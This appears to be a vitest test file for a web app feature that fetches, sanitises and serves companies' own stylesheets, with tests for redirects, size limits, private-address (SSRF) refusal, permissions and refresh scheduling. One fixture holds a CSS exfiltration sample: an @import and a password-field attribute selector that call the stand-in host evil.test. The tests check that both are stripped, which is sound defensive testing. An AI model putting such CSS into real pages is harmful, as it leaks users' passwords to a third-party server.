import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { getCACertificates, setDefaultCACertificates } from 'node:tls'
import { afterAll, beforeEach, describe, expect, it } from 'vitest'
import { companiesApi } from '#contract/companies/companies.ts'
import { companyAdminApi } from '#contract/companies/company-admin.ts'
import { ownCertificate, styleHost } from '#tools/services/style-host.ts'
import { world } from '../../../../test/world.ts'
import { refreshDueStylesheets } from './refresh-stylesheets.ts'

const certificate = ownCertificate()
setDefaultCACertificates([...getCACertificates(), readFileSync(certificate.certificate, 'utf8')])
const host = await styleHost(certificate)
const w = await world({ CAIRN_PRIVATE_ADDRESSES: 'allow' })
afterAll(async () => {
  await host.stop()
  certificate.remove()
})
beforeEach(() => host.files.clear())

const dark = "html[data-mantine-color-scheme='dark'] { --cairn-accent: #123456 }"
/** What spells a password to another server, a letter at a time. */
const spy = `@import url(https://evil.test/more.css);
input[type=password][value^='a'] { background: url(https://evil.test/a) }
.card { color: #0b5394 }`

async function acme() {
  const company = await w.company()
  const admin = await company.user({ role: 'admin' })
  const save = (themes: { light?: string | null; dark?: string | null }) =>
    admin.call(companiesApi.updateSettings, { params: { id: company.id }, body: { themes } })
  const worn = async () =>
    (await company.stranger.ok(companiesApi.bySlug, { params: { slug: company.slug } })).themes
  const kept = async () => (await admin.ok(companyAdminApi.designs, { params: { id: company.id } })).own
  const sheet = async (path: string | null | undefined) =>
    (await company.stranger.raw('GET', path ?? '/')).text
  return { company, admin, save, worn, kept, sheet }
}
type Field = { field: string; code: string }

describe('a company’s own stylesheet', () => {
  it('is fetched by the server and served from it, while the settings keep the address map [S3.4] [S4.3]', async () => {
    const { save, worn, sheet, company, admin } = await acme()
    host.files.set('/l.css', '.card { color: #0b5394 }').set('/d.css', dark)
    const themes = { light: host.address('/l.css'), dark: host.address('/d.css') }
    expect((await save(themes)).data).toMatchObject({ themes })
    expect((await admin.ok(companiesApi.settings)).themes).toEqual(themes)
    const shown = await worn()
    const path = new RegExp(`^/themes/${company.id}/own-[0-9a-f]{32}\\.css$`)
    expect([shown.light, shown.dark]).toEqual([expect.stringMatching(path), expect.stringMatching(path)])
    expect(shown.light).not.toBe(shown.dark)
    const answer = await company.stranger.raw('GET', `${shown.light}?t=1`)
    expect(answer.headers['content-type']).toBe('text/css; charset=utf-8')
    expect(answer.text).toBe('.card{color:#0b5394}')
    expect(await sheet(shown.dark)).toContain('--cairn-accent: #123456')
  })

  it('is served without what reads a field or calls another server, and the admin is told what was left out', async () => {
    const { save, worn, sheet, kept } = await acme()
    host.files.set('/spy.css', spy)
    await save({ light: host.address('/spy.css') })
    const css = await sheet((await worn()).light)
    expect(css).toBe('.card{color:#0b5394}')
    const { light } = await kept()
    expect(light).toMatchObject({ address: host.address('/spy.css'), problem: null, leftOutCount: 2 })
    expect(light?.leftOut).toEqual([
      { kind: 'import', line: 1, text: '@import url(https://evil.test/more.css);' },
      { kind: 'attribute', line: 2, text: "input[type=password][value^='a']" },
    ])
  })

  it.each([
    ['/missing.css', undefined, 'stylesheet_status'],
    ['/page.css', { headers: { 'content-type': 'text/html' }, body: 'a{b:c}' }, 'stylesheet_kind'],
    ['/large.css', `a{b:c}${' '.repeat(256 * 1024)}`, 'stylesheet_too_large'],
    ['/deep.css', '('.repeat(1000), 'stylesheet_unreadable'],
    ['/packed.css', { headers: { 'content-encoding': 'gzip' }, body: 'a{b:c}' }, 'stylesheet_unreadable'],
    [
      '/lost.css',
      { status: 302, headers: { location: 'https://localhost:1/x.css' } },
      'stylesheet_unreachable',
    ],
    ['/ring.css', { status: 301, headers: { location: '/ring.css' } }, 'stylesheet_status'],
  ])('is refused at its field where it cannot be used: %s', async (path, answer, code) => {
    const { save, admin } = await acme()
    if (answer) host.files.set(path, answer)
    const { error } = await save({ dark: host.address(path) })
    expect(error?.code).toBe('BAD_REQUEST')
    expect(error?.details as Field[]).toEqual([{ field: 'themes.dark', code }])
    expect((await admin.ok(companiesApi.settings)).themes).toEqual({})
  })

  it('is refused from inside the network, for every private address', async () => {
    const strict = await world()
    const company = await strict.company()
    const admin = await company.user({ role: 'admin' })
    for (const address of ['https://127.0.0.1/x.css', 'https://10.1.2.3/x.css', 'https://localhost/x.css']) {
      const body = { themes: { light: address } }
      const { error } = await admin.call(companiesApi.updateSettings, { params: { id: company.id }, body })
      expect(error?.details, address).toEqual([{ field: 'themes.light', code: 'stylesheet_private' }])
    }
  })

  it('is not fetched for somebody who may not save it', async () => {
    const { company } = await acme()
    const other = await w.company()
    const stranger = await other.user({ role: 'admin' })
    host.files.set('/x.css', 'a{b:c}')
    const before = host.asked.length
    const body = { themes: { light: host.address('/x.css') } }
    const far = await stranger.call(companiesApi.updateSettings, { params: { id: company.id }, body })
    expect(far.error?.code).toBe('NOT_FOUND')
    const student = await company.user()
    const low = await student.call(companiesApi.updateSettings, { params: { id: company.id }, body })
    expect(low.error?.code).toBe('FORBIDDEN')
    const refresh = { params: { id: company.id } }
    expect((await stranger.call(companyAdminApi.refreshStylesheets, refresh)).error?.code).toBe('NOT_FOUND')
    expect(host.asked.length).toBe(before)
  })

  it('follows a move, and is fetched anew at a press; what does not come is told, and the copy before is worn', async () => {
    const { company, admin, save, worn, sheet } = await acme()
    host.files.set('/old.css', { status: 301, headers: { location: '/new.css' } }).set('/new.css', 'a{b:c}')
    await save({ light: host.address('/old.css') })
    expect(await sheet((await worn()).light)).toBe('a{b:c}')
    host.files.set('/new.css', 'a{b:d}')
    const refresh = { params: { id: company.id } }
    expect((await admin.ok(companyAdminApi.refreshStylesheets, refresh)).light?.problem).toBeNull()
    const changed = await worn()
    expect(await sheet(changed.light)).toBe('a{b:d}')
    host.files.clear()
    const failed = await admin.ok(companyAdminApi.refreshStylesheets, refresh)
    expect(failed.light).toMatchObject({ problem: 'stylesheet_status', fetchedAt: expect.any(String) })
    expect(await worn()).toEqual(changed)
    // Saved again while its server is away, it stays as well.
    expect((await save({ light: host.address('/old.css') })).status).toBe(200)
    expect(await sheet((await worn()).light)).toBe('a{b:d}')
  })

  it('is fetched by itself for a company that named it before, and a day later again', async () => {
    const { company, worn, sheet, kept } = await acme()
    const address = host.address('/long-ago.css')
    const settings = (themes: object) =>
      w.services.db.withTenant(company.id, (tx) =>
        tx
          .updateTable('company_settings')
          .set({ themes: JSON.stringify(themes) })
          .execute(),
      )
    await settings({ light: address })
    w.services.companies.forget(company.slug)
    // Until then it wears Cairn's own colours: no browser is sent to another server.
    expect(await worn()).toEqual({ light: null })
    host.files.set('/long-ago.css', 'a{b:c}')
    const asked = () => host.asked.filter((path) => path === '/long-ago.css').length
    while (asked() === 0) await refreshDueStylesheets(w.services)
    expect(await sheet((await worn()).light)).toBe('a{b:c}')
    await refreshDueStylesheets(w.services)
    expect(asked()).toBe(1)
    await w.services.db.withTenant(company.id, (tx) =>
      tx
        .updateTable('company_own_stylesheets')
        .set({ checked_at: new Date(Date.now() - 25 * 3_600_000) })
        .execute(),
    )
    host.files.set('/long-ago.css', 'a{b:e}')
    await refreshDueStylesheets(w.services)
    expect(asked()).toBe(2)
    expect(await sheet((await worn()).light)).toBe('a{b:e}')
    expect((await kept()).light?.fetchedAt).not.toBeNull()
  })

  it('is refreshed though another company’s holds what cannot be kept, and though another’s refreshing fails', async () => {
    const names = async (path: string, body: string) => {
      const one = await acme()
      host.files.set(path, body)
      await w.services.db.withTenant(one.company.id, (tx) =>
        tx
          .updateTable('company_settings')
          .set({ themes: JSON.stringify({ light: host.address(path) }) })
          .execute(),
      )
      w.services.companies.forget(one.company.slug)
      return one
    }
    const odd = await names('/odd.css', '.a{color:red}.a\0b{color:red}')
    const emoji = await names('/emoji.css', `@import "${'a'.repeat(70)}${'😀'.repeat(10)}";.a{color:red}`)
    const broken = await names('/broken.css', 'a{b:c}')
    const { withTenant } = w.services.db
    const db: typeof w.services.db = {
      ...w.services.db,
      withTenant: (id, run, options) =>
        id === broken.company.id ? Promise.reject(new Error('broken')) : withTenant(id, run, options),
    }
    await refreshDueStylesheets({ ...w.services, db })
    for (const one of [odd, emoji]) expect(await one.sheet((await one.worn()).light)).toBe('.a{color:red}')
    expect((await odd.kept()).light?.problem).toBeNull()
    expect(
      (await odd.admin.call(companyAdminApi.refreshStylesheets, { params: { id: odd.company.id } })).status,
    ).toBe(200)
  })

  it('is refreshed when it waits longest, whatever of others cannot be written down', async () => {
    const named = async (themes: object) => {
      const one = await acme()
      await w.services.db.withTenant(one.company.id, (tx) =>
        tx
          .updateTable('company_settings')
          .set({ themes: JSON.stringify(themes) })
          .execute(),
      )
      return one
    }
    const hoursAgo = (hours: number) => new Date(Date.now() - hours * 3_600_000)
    const kept = async (address: string, hours: number) => {
      const one = await named({ light: address })
      await w.services.db.withTenant(one.company.id, (tx) =>
        tx
          .insertInto('company_own_stylesheets')
          .values({
            company_id: one.company.id,
            address_hash: createHash('sha256').update(address).digest('hex'),
            address,
            css: '',
            css_hash: createHash('sha256').update('').digest('hex'),
            fetched_at: hoursAgo(hours),
            checked_at: hoursAgo(hours),
          })
          .execute(),
      )
    }
    // What other tests left due.
    await refreshDueStylesheets(w.services)
    // Twenty that were never fetched and cannot be written down: a whole turn.
    const stuck = new Set<string>()
    for (let n = 0; n < 10; n++) {
      const themes = { light: host.address(`/stuck${n}l.css`), dark: host.address(`/stuck${n}d.css`) }
      stuck.add((await named(themes)).company.id)
    }
    for (let n = 0; n < 20; n++) await kept(host.address(`/young${n}.css`), 30)
    await kept(host.address('/old.css'), 90)
    for (const path of ['/old.css', ...Array.from({ length: 20 }, (_, n) => `/young${n}.css`)])
      host.files.set(path, 'a{b:c}')
    const { withTenant } = w.services.db
    const db: typeof w.services.db = {
      ...w.services.db,
      withTenant: (id, run, options) =>
        stuck.has(id) ? Promise.reject(new Error('stuck')) : withTenant(id, run, options),
    }
    const from = host.asked.length
    expect(await refreshDueStylesheets({ ...w.services, db })).toBe(20)
    const asked = host.asked.slice(from).filter((path) => !path.startsWith('/stuck'))
    expect([asked[0], asked.length]).toEqual(['/old.css', 20])
    // The one that was left is the next.
    expect(await refreshDueStylesheets({ ...w.services, db })).toBe(1)
    await w.services.db.withPlatform((tx) =>
      tx
        .updateTable('companies')
        .set({ deleted_at: new Date() })
        .where('id', 'in', [...stuck])
        .execute(),
    )
  })

  it('keeps no more than the last few that are not worn', async () => {
    const { company, save } = await acme()
    for (let i = 0; i < 8; i++) {
      host.files.set(`/${i}.css`, `a{b:c${i}}`)
      await save({ light: host.address(`/${i}.css`) })
    }
    const rows = await w.services.db.withTenant(company.id, (tx) =>
      tx.selectFrom('company_own_stylesheets').select('address').execute(),
    )
    expect(rows.length).toBe(5)
  })
})
